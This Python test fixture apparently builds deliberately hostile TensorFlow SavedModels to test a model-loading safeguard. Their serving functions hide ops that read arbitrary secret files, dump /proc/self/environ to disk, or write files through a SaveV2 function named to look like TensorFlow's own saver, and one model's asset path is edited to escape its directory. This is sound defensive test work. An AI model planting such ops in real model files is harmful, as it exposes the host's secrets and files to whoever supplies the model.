"""Hostile SavedModels, built with TensorFlow like `tests/fixtures/models.py` builds its tiny
models: each has a `serving_default` signature taking `x` (float32, [None]) and returning a
`probability`, and each tries to reach outside the model in a way issue #14 found.

`build_hostile_models(root, secret_file, out_file)` returns {name: SavedModel directory}:

- `csv_dataset`: a `CsvDataset` reading `secret_file` (any file) inside the serving function.
- `sql_dataset`: a `SqlDataset` querying a SQLite database at `secret_file`.
- `csv_cache`: `CsvDataset('/proc/self/environ').cache(out_file)`: secrets to disk.
- `traced_save`: a function named `_traced_save_x` (so traced as `__inference__traced_save_x_N`,
  the name TensorFlow gives its saver) holding `SaveV2` to `out_file`, called by serving.
- `saver_method`: the same function as a method of the model only (not called by serving).
- `record_input`: `RecordInput` with a file pattern.
- `unigram_sampler`: `FixedUnigramCandidateSampler` with a `vocab_file`.
- `decode_proto`: `DecodeProtoV2` with a `descriptor_source` file.
- `table_from_path`: a lookup table initialised, in the serving function, from a constant
  path (not an asset).
- `asset_escape`: a real asset-backed table whose `asset_file_def` was then edited to name
  `secret_file` by its absolute path.
- `asset_table`: the harmless control: a table initialised from its own `assets/vocab.txt`
  (its scores are sigmoid(x) only if the table was read).

Building runs no hostile op: tracing and saving only write graphs.
"""

from __future__ import annotations

import os
from pathlib import Path


def build_hostile_models(root: Path, *, secret_file: Path, out_file: Path) -> dict[str, Path]:
    os.environ.setdefault("TF_CPP_MIN_LOG_LEVEL", "2")
    import tensorflow as tf
    from tensorflow.core.protobuf import saved_model_pb2

    x_spec = tf.TensorSpec([None], tf.float32, name="x")
    secret, out = str(secret_file), str(out_file)
    models: dict[str, Path] = {}

    def save(name: str, module: tf.Module) -> None:
        models[name] = root / name
        tf.saved_model.save(module, str(models[name]),
                            signatures={"serving_default": module.serve})

    def plain(serve_body: object) -> tf.Module:
        module = tf.Module()
        module.serve = tf.function(serve_body, input_signature=[x_spec])
        return module

    def with_count(x: tf.Tensor, value: tf.Tensor) -> dict[str, tf.Tensor]:
        return {"probability": tf.sigmoid(x) + 0.0 * tf.cast(value, tf.float32)}

    def csv_dataset(x: tf.Tensor) -> dict[str, tf.Tensor]:
        rows = tf.data.experimental.CsvDataset(secret, [tf.string], field_delim="\x01")
        return with_count(x, rows.reduce(0, lambda n, _: n + 1))

    def sql_dataset(x: tf.Tensor) -> dict[str, tf.Tensor]:
        rows = tf.data.experimental.SqlDataset("sqlite", secret, "SELECT name FROM t",
                                               (tf.string,))
        return with_count(x, rows.reduce(0, lambda n, _: n + 1))

    def csv_cache(x: tf.Tensor) -> dict[str, tf.Tensor]:
        rows = tf.data.experimental.CsvDataset("/proc/self/environ", [tf.string],
                                               field_delim="\x01").cache(out)
        return with_count(x, rows.reduce(0, lambda n, _: n + 1))

    def _traced_save_x(value: tf.Tensor) -> tf.Tensor:
        saved = tf.raw_ops.SaveV2(prefix=out, tensor_names=["pwned"], shape_and_slices=[""],
                                  tensors=[tf.strings.as_string(value)])
        with tf.control_dependencies([saved]):
            return tf.identity(value)

    saver_named = tf.function(_traced_save_x)

    def traced_save(x: tf.Tensor) -> dict[str, tf.Tensor]:
        return {"probability": tf.sigmoid(saver_named(x))}

    def record_input(x: tf.Tensor) -> dict[str, tf.Tensor]:
        records = tf.raw_ops.RecordInput(file_pattern=secret, batch_size=1)
        return with_count(x, tf.size(records))

    def unigram_sampler(x: tf.Tensor) -> dict[str, tf.Tensor]:
        sampled, _, _ = tf.random.fixed_unigram_candidate_sampler(
            true_classes=[[0]], num_true=1, num_sampled=1, unique=True, range_max=2,
            vocab_file=secret)
        return with_count(x, tf.size(sampled))

    def decode_proto(x: tf.Tensor) -> dict[str, tf.Tensor]:
        _, values = tf.io.decode_proto(tf.constant([b""]), "a.B", ["c"], [tf.int32],
                                       descriptor_source=secret)
        return with_count(x, tf.size(values[0]))

    def table_from_path(x: tf.Tensor) -> dict[str, tf.Tensor]:
        table = tf.raw_ops.HashTableV2(key_dtype=tf.string, value_dtype=tf.int64)
        init = tf.raw_ops.InitializeTableFromTextFileV2(table_handle=table, filename=secret,
                                                        key_index=-2, value_index=-1)
        with tf.control_dependencies([init]):
            found = tf.raw_ops.LookupTableFindV2(table_handle=table, keys=["s3cret"],
                                                 default_value=tf.constant(-1, tf.int64))
        return with_count(x, found[0])

    for name, body in [("csv_dataset", csv_dataset), ("sql_dataset", sql_dataset),
                       ("csv_cache", csv_cache), ("traced_save", traced_save),
                       ("record_input", record_input), ("unigram_sampler", unigram_sampler),
                       ("decode_proto", decode_proto), ("table_from_path", table_from_path)]:
        save(name, plain(body))

    method = plain(lambda x: {"probability": tf.sigmoid(x)})
    method.save_it = tf.function(_traced_save_x,
                                 input_signature=[tf.TensorSpec([], tf.float32)])
    save("saver_method", method)

    class AssetTable(tf.Module):
        def __init__(self, path: str) -> None:
            self.table = tf.lookup.StaticHashTable(tf.lookup.TextFileInitializer(
                path, tf.string, tf.lookup.TextFileIndex.WHOLE_LINE, tf.int64,
                tf.lookup.TextFileIndex.LINE_NUMBER), -1)

        @tf.function(input_signature=[x_spec])
        def serve(self, x: tf.Tensor) -> dict[str, tf.Tensor]:
            # "yes" is line 1 of the vocabulary: the scores are sigmoid(x) only if the table
            # was read (-1, not found, would make them negative).
            found = self.table.lookup(tf.constant(["yes"]))
            return {"probability": tf.sigmoid(x) * tf.cast(found[0], tf.float32)}

    vocab = root / "vocab.txt"
    vocab.write_text("no\nyes\n")
    save("asset_table", AssetTable(str(vocab)))
    save("asset_escape", AssetTable(str(vocab)))
    proto = saved_model_pb2.SavedModel()
    pb = models["asset_escape"] / "saved_model.pb"
    proto.ParseFromString(pb.read_bytes())
    for meta in proto.meta_graphs:
        for asset in meta.asset_file_def:
            asset.filename = secret
    pb.write_bytes(proto.SerializeToString())
    return models
